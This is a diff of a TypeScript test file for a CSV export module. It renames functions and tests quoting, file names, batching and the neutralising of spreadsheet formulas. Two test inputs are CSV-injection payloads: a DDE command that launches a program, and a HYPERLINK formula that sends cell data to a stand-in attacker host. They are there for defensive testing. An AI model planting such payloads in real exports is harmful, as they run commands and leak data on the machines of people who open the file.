@@ -1,26 +1,26 @@
 import { Readable } from 'node:stream';
 import * as fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
-import { batchesOf, csvName, csvText, neutralised, plainOf } from './csv.ts';
+import { readBatches, createCsvName, writeCsv, neutraliseFormula, restoreFormula } from './csv.ts';
 import type { Cell } from './csv.ts';
 
 /** The whole text of a table with rows in these batches. */
-async function textOf(columns: readonly string[], ...batches: readonly Cell[][][]): Promise<string> {
+async function writeText(columns: readonly string[], ...batches: readonly Cell[][][]): Promise<string> {
   const table = { name: 'test.csv', columns, batches: ReadableStream.from(batches) };
-  return (await Readable.from(csvText(table)).toArray()).join('');
+  return (await Readable.from(writeCsv(table)).toArray()).join('');
 }
 
 test('a table is UTF-8 with a BOM, each line ends with CRLF, and texts are quoted', async () => {
-  const text = await textOf(['a', 'b'], [['Büro "Nord"', 1]], [['one\r\ntwo; three,', null]], [['', true]]);
+  const text = await writeText(['a', 'b'], [['Büro "Nord"', 1]], [['one\r\ntwo; three,', null]], [['', true]]);
   expect(text).toBe('\uFEFF"a","b"\r\n"Büro ""Nord""",1\r\n"one\r\ntwo; three,",\r\n"",true\r\n');
 });
 
 test('a table without rows has its header', async () => {
-  expect(await textOf(['a', 'b'])).toBe('\uFEFF"a","b"\r\n');
+  expect(await writeText(['a', 'b'])).toBe('\uFEFF"a","b"\r\n');
 });
 
 test('a table’s file name contains its day in UTC', () => {
-  expect(csvName('users', Date.parse('2026-11-21T23:59:59.000Z'))).toBe('users-2026-11-21.csv');
+  expect(createCsvName('users', Date.parse('2026-11-21T23:59:59.000Z'))).toBe('users-2026-11-21.csv');
 });
 
 describe('a text that a spreadsheet would evaluate as a formula', () => {
@@ -50,15 +50,15 @@ describe('a text that a spreadsheet would evaluate as a formula', () => {
     '=cmd|’ /C calc’!A0',
     '=HYPERLINK("https://evil.example?"&A1)',
   ])('%j is neutralised, and an import restores it', (text) => {
-    expect(neutralised(text)).toBe(`'${text}`);
-    expect(plainOf(neutralised(text))).toBe(text);
+    expect(neutraliseFormula(text)).toBe(`'${text}`);
+    expect(restoreFormula(neutraliseFormula(text))).toBe(text);
   });
 
   test.each(['', 'Ada', "O'Neil", "'t Hooft", 'a=b', '3-4', 'ada@office.example', '004912', "''"])(
     '%j is none and stays as it is',
     (text) => {
-      expect(neutralised(text)).toBe(text);
-      expect(plainOf(text)).toBe(text);
+      expect(neutraliseFormula(text)).toBe(text);
+      expect(restoreFormula(text)).toBe(text);
     },
   );
 
@@ -68,7 +68,8 @@ describe('a text that a spreadsheet would evaluate as a formula', () => {
     fc.assert(
       fc.property(
         text,
-        (each) => plainOf(neutralised(each)) === each && !/^[=+\-@\t\r\n＝＋－＠]/.test(neutralised(each)),
+        (each) =>
+          restoreFormula(neutraliseFormula(each)) === each && !/^[=+\-@\t\r\n＝＋－＠]/.test(neutraliseFormula(each)),
       ),
       { numRuns: 5000 },
     );
@@ -81,11 +82,11 @@ test('all rows of a list come in batches, each after the last row of the one bef
     starts.push(behind);
     return [1, 2, 3, 4, 5, 6].filter((row) => row > (behind ?? 0)).slice(0, most);
   };
-  expect(await Readable.from(batchesOf(next, 4)).toArray()).toEqual([
+  expect(await Readable.from(readBatches(next, 4)).toArray()).toEqual([
     [1, 2, 3, 4],
     [5, 6],
   ]);
-  expect(await Readable.from(batchesOf(next, 3)).toArray()).toEqual([
+  expect(await Readable.from(readBatches(next, 3)).toArray()).toEqual([
     [1, 2, 3],
     [4, 5, 6],
   ]);
